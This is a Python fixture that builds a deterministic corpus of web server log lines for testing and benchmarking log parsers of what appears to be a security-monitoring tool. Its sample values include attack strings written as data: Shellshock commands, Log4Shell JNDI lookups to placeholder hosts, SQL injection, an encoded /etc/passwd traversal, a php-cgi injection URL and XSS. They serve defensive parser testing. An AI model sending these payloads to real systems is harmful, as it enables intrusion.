"""A large, varied set of log lines for checking that the line parsers give the same events.

Used by ``tests/collect/test_parse_cache.py`` (the parsers' caches change nothing: a line parsed with
cold caches and with warm ones gives the same event) and by ``bench/parse_same.py`` (this checkout's
parser against an earlier commit's, event by event). The lines: the conformance corpus, the demo
traffic generator's access and application lines, the same access lines rewritten as a real
portal's (bench/pipeline.py), the two portal layouts of ``tests/detect/test_portal_profile.py``
and, built here, the access-log variants the parser reads (nginx/Apache common and combined, timing
and upstream tails with and without names, headers, cookies, encoded payloads, cut and garbage
requests, bad times, IPv6 and host names), JSON access and application lines and hostile bytes.
Deterministic: the same arguments give the same lines.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[2]
CONFORMANCE = ROOT / "tests" / "conformance"
FUZZ_SEEDS = ROOT / "fuzz" / "corpus" / "access_log"

# A second portal's own profile (layout B of the portal-profile tests, with an account parameter).
OWN_PROFILE = """\
name: tinh-x
kinds:
  - kind: static
    extensions: [png, js]
  - kind: login
    paths: ['^/cong-dan/vao$', '^/auth/login']
  - kind: download
    paths: ['^/files/']
  - kind: record
    ids: true
ids:
  min_digits: 5
  code_like: false
  params: [hs]
account_params: [tk, username]
"""

LAYOUTS = {
    "A": (
        "/dang-nhap",
        "/dang-nhap?username=can.bo.{n}",
        "/dich-vu-cong/ho-so/tra-cuu?maHoSo=000.00.01.H29-260701-{n:04d}",
        "/tai-lieu/tai-ve?tep=to-khai-{n}.pdf",
        "/static/js/app.{n}.js",
        "/quan-tri/nguoi-dung",
        "/gop-y",
        "/healthz",
        "/cong-dan/vao?tk=cd{n}",
    ),
    "B": (
        "/auth/login",
        "/auth/login?username=user{n}%40example.vn",
        "/api/v2/applications/{n:06d}",
        "/files/{n}/attachment.pdf",
        "/assets/logo-{n}.png",
        "/admin/users",
        "/contact",
        "/health",
        "/xem?hs=abc{n}",
    ),
}

AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64)",
    "-",
    "",
    "curl/8.5.0",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "() { :;}; /bin/bash -c \\x22wget x\\x22",
    "%24%7Bjndi:ldap://x.example/a%7D",
    'Mozilla/5.0 \\"quoted\\" agent',
    "Mozilla/5.0 (Linux; Android 14) \\u003cscript\\u003e",
)
REFERRERS = (
    "-",
    "",
    "https://dichvucong.gov.vn/",
    "https://www.google.com/search?q=%C4%91%C4%83ng+k%C3%BD+k%E1%BA%BFt+h%C3%B4n",
    "https://coccoc.com/search?query=dang+ky+tam+tru%2B",
    "http://x.example/%252e%252e%252f",
)
TARGETS = (
    "/",
    "/index.php",
    "/a.b;c=d",
    "/v1.2/x",
    "/dich-vu-cong/tra-cuu.html?maHoSo=H29-1&trang=2",
    "/tim-kiem?tu-khoa=%C4%90%C4%83ng+K%C3%BD+K%E1%BA%BFt+H%C3%B4n&page=2",
    "/tai-lieu/tai-ve?tep=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/tra-cuu?id=1%27%20or%20true--",
    "/cgi-bin/php-cgi?%2Dd+allow_url_include%3D1+%2Dd+auto_prepend_file%3Dphp://input",
    "/search?q=%u003cscript%u003ealert(1)%u003c/script%u003e",
    "/x?a=\\x3cb\\x3e&b=%uD800",
    "/%E1%BB%A9ng-d%E1%BB%A5ng/%ZZbad%",
    "/w00tw00t.at.ISC.SANS.DFind:)",
    "http://www.example.com/",
    "/dang-nhap?returnUrl=%2Fdich-vu-cong%2Fho-so&username=cd%2B1",
    "/login?email=a%40b.vn&user=",
    "/api/ho-so/550e8400-e29b-41d4-a716-446655440000",
    "/files/HS-2026-0042/x.PDF",
    "/UPPER/CASE.JPEG?x=1",
    "/a?&&=&b",
    "/tra-cuu?ma=?&id=12",
)
REQUESTS = (
    "CONNECT www.example.com:443 HTTP/1.1",
    "-",
    "",
    "\\x16\\x03\\x01\\x00\\xa5\\x01",
    "GET /a b.php HTTP/1.0",
    "SEARCH /" + "\\x90" * 40,
    "GET /no-protocol",
    "PROPFIND /dav/ HTTP/1.1",
    'GET /q?x=\\"a\\" HTTP/1.1',
    "GET  /double-space HTTP/1.1",
    "get /lower HTTP/1.1",
)
TAILS = (
    "",
    "   ",
    ' "1.2.3.4, 10.0.0.1" rt=0.012 uct="0.001" urt="0.010, 0.005" ua="10.0.0.5:8080" us="200"',
    " 0.250 0.248",
    ' "203.0.113.9" 0.012 0.010',
    ' rt=0.004 uct="-" uht="0.003" urt="0.003" rid=abc123 host=dichvucong.gov.vn',
    ' request_time=1.5 upstream_response_time="0.1 : 0.2" upstream_addr="10.0.0.1:80, 10.0.0.2:80"'
    ' upstream_status="502, 200"',
    ' xff="${jndi:ldap://198.51.100.21:1389/a}"',
    ' api="${${lower:j}ndi:dns://x.example/a}"',
    ' http_x_custom="() { :;}; /bin/id" cookie_session=abc cookie_lang=vi',
    ' xff="203.0.113.9, 10.0.0.5" cookie="lang=vi" http_x_api_version="%27%20or%201=1"',
    ' "-" "%24%7Bjndi:ldap://x.example/a%7D"',
    " foo=bar 10.0.0.9:8080 404 extra words 0.1 0.2 0.3",
    ' X-Forwarded-For="1.1.1.1" Authorization="Bearer abc" accept_language=vi-VN',
    " rt=abc urt=- us=- ua=-",
    ' rt=0.1 "unterminated',
    " cookie_a=1 cookie=b=2 cookie_c=3",
)
TIMES = (
    "01/Jul/2026:10:00:00 +0700",
    "01/Jul/2026:10:00:00 +0000",
    "31/Dec/2026:23:59:59 -0530",
    "29/Feb/2028:00:00:00 +1400",
    "99/Foo/2026:99:00:00 +0700",
    "1/Jul/2026:10:00:00 +0700",
    "01/Jul/2026:10:00:00",
)
ADDRESSES = ("203.0.113.7", "2001:db8::1", "::ffff:10.0.0.1", "crawler.example.com", "-", "10.0.0.1\\x00")


def _access(addr: str, user: str, time: str, request: str, status: str, size: str, ref: str, ua: str) -> str:
    return f'{addr} - {user} [{time}] "{request}" {status} {size} "{ref}" "{ua}"'


def variants(seed: int = 18, count: int = 4000) -> Iterator[str]:
    """Access lines built from the parts above: every part on its own, then random combinations."""
    base = dict(
        addr="203.0.113.7",
        user="-",
        time=TIMES[0],
        request="GET / HTTP/1.1",
        status="200",
        size="512",
        ref="-",
        ua=AGENTS[0],
    )
    parts = {
        "addr": ADDRESSES,
        "user": ("-", "can.bo.01", "Nguyễn Văn An"),
        "time": TIMES,
        "request": (
            *REQUESTS,
            *(f"GET {t} HTTP/1.1" for t in TARGETS),
            *(f"POST {t} HTTP/2.0" for t in TARGETS[:4]),
        ),
        "status": ("200", "302", "404", "500", "-", "999"),
        "size": ("0", "-", "123456789"),
        "ref": REFERRERS,
        "ua": AGENTS,
    }
    for name, values in parts.items():
        for value in values:
            yield _access(**{**base, name: value})
    for tail in TAILS:
        yield _access(**base) + tail
    # common format (no referrer or agent), with and without a tail
    yield '10.1.2.3 - cb.01.101 [10/Oct/2026:13:55:36 +0000] "POST /can-bo/dang-nhap HTTP/1.1" 401 0'
    yield '10.1.2.3 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 0 rt=0.1'
    yield "not an access line at all"
    r = random.Random(seed)
    for _ in range(count):
        line = _access(**{name: r.choice(values) for name, values in parts.items()})
        yield line + (r.choice(TAILS) if r.random() < 0.4 else "")


def layouts() -> Iterator[str]:
    """The two portal layouts: each kind of request, ids and accounts varying, several times a second."""
    for layout, targets in LAYOUTS.items():
        for n, (target, method, status) in enumerate(
            itertools.product(targets, ("GET", "POST"), (200, 302, 401, 404)), start=40
        ):
            stamp = f"01/Jul/2026:09:{n // 60 % 60:02d}:{n % 60:02d} +0700"
            ip = f"198.51.100.{n % 7}" if layout == "A" else f"2001:db8::{n % 5}"
            url = target.format(n=n)
            yield f'{ip} - - [{stamp}] "{method} {url} HTTP/1.1" {status} 512 "-" "Mozilla/5.0 (X11; Linux)"'


def json_lines() -> Iterator[str]:
    """JSON access lines (nginx ``escape=json``), application lines and ECS documents."""
    yield from (
        '{"time_local": "01/Jul/2026:10:50:00 +0700", "remote_addr": "203.0.113.77", "remote_user": "-", '
        '"request": "POST /dang-nhap?username=can.bo.07 HTTP/1.1", "status": "401", "body_bytes_sent": "153", '
        '"http_referer": "https://dichvucong.gov.vn/", "http_user_agent": "curl/8.5.0", "http_x_forwarded_for": "-"}',
        '{"time_local": "01/Jul/2026:10:50:01 +0700", "remote_addr": "203.0.113.78", "request": '
        '"GET /tim-kiem?q=%C4%91%E1%BA%A5t+%C4%91ai HTTP/1.1", "status": 200, "http_user_agent": "%24%7Bjndi%7D", '
        '"http_x_api_version": "%27 or 1=1", "headers": {"X-Custom": "() { :;};", "Accept": "-"}}',
        '{"ts": "2026-07-01T02:00:00Z", "method": "post", "path": "/api/ho-so", "status": 201}',
        '{"ts": "2026-07-01T02:00:00Z", "action": "login", "method": "password+otp", "user": "can.bo.01"}',
        '{"time": "2026-11-20T02:00:00Z", "level": "warning", "action": "login", "outcome": "failure", '
        '"user": "cd123", "ip": "14.160.1.2", "role": "can_bo_mot_cua", "form": {"so_cccd": "001099012345"}}',
        '{"@timestamp": "2026-11-20T02:00:00+07:00", "event.dataset": "fw", "event.id": "abc", "source.ip": "1.1.1.1"}',
        '{"@timestamp": 1782877800000, "event": {"kind": "alert"}, "ecs": {"version": "8.11.0"}}',
        '{"time": 1782877800, "method": "GET", "url": "/a?b=c", "status": "x", "bytes": "12"}',
        '{"msg": "no time at all", "roles": ["a", "b"]}',
        "{not json",
        "[1, 2]",
        '{"time": "yesterday"}',
    )


def conformance_lines() -> Iterator[str]:
    for path in sorted(CONFORMANCE.glob("*.yaml")):
        for case in yaml.safe_load(path.read_text())["cases"]:
            yield case["line"]


def demo_lines(seed: int, sessions: int) -> tuple[list[str], list[str]]:
    """The demo traffic generator's access and application lines for one seed."""
    from sentinel.demo.traffic import generate

    day = generate(seed=seed, sessions=sessions)
    return day.access_lines, day.app_lines


def hostile() -> Iterator[bytes]:
    """Bytes a parser must keep as an event whatever they are: fuzz seeds, invalid UTF-8, blank and long lines."""
    for path in sorted(FUZZ_SEEDS.glob("*")):
        yield path.read_bytes()
    base = _access("203.0.113.7", "-", TIMES[0], "GET / HTTP/1.1", "200", "1", "-", "-").encode()
    yield base.replace(b"GET /", b"GET /\xff\xfe\xc3")
    yield b""
    yield b"   \r\n"
    yield base + b"\r\n"
    yield base.replace(b"GET /", b"GET /" + b"a" * 70_000)
    yield b"x" * ((1 << 20) + 1)


def corpus(*, seed: int = 18, sessions: int = 400, variants_count: int = 4000) -> list[bytes]:
    """Every line above as bytes, in a fixed order (the demo's lines of two seeds, one also as a real portal's)."""
    from bench.pipeline import realistic

    lines: list[str] = [*conformance_lines(), *variants(seed, variants_count), *layouts(), *json_lines()]
    for n in (seed, seed + 1):
        access, app = demo_lines(n, sessions)
        lines += access + app
        if n == seed:
            lines += realistic(access, n)
    return [line.encode() for line in lines] + list(hostile())
